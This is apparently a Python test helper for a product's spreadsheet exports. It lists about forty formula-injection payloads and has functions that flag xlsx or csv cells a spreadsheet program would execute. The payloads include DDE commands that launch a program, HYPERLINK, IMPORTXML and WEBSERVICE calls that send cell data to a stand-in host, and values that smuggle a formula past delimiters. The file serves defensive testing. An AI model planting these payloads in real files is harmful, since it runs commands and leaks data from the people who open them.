"""Forty ways to make a spreadsheet run what somebody typed, and an eye for a cell that would."""

import csv
import io
import re

from openpyxl import load_workbook

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TAILS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?d="&A1,"Klik")',
    'IMPORTXML("http://evil.example/","//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
)
FORMULAS = (
    *(start + tail for start in STARTS[:6] for tail in TAILS),
    *(start + "1+1" for start in STARTS),
    'DDE("cmd";"/C calc";"x")'.join(("=", "")),
    '=WEBSERVICE("http://evil.example")',
    "Ivan;=1+1",
    "Ivan\n=1+1",
    'Ivan","=1+1',
    "'=1+1",
    "=2+5+cmd|' /C calc'!A0 Ivan",
)
# Independent of the product's own rule: what Excel, LibreOffice and Google's sheets take for the start of a formula.
TAKEN = re.compile(r"^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
HARMLESS = re.compile(r"^[+-]?[\d ][\d ,.]*$|^[–-]$")


def effective(content: bytes, kind: str) -> list[str]:
    """The cells that a program would run. kind: the content type of an xlsx or csv."""
    return in_sheets(content) if "spreadsheet" in kind else in_lines(content.decode("utf-8-sig"))


def in_sheets(content: bytes) -> list[str]:
    cells = (cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f" or runs(cell.value)]


def in_lines(text: str) -> list[str]:
    """Split as the file itself is."""
    mark = ";" if ";" in text.partition("\n")[0] else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=mark)
    return [cell for row in rows for cell in row if runs(cell)]


def runs(value: object) -> bool:
    return isinstance(value, str) and bool(TAKEN.match(value)) and not HARMLESS.match(value)
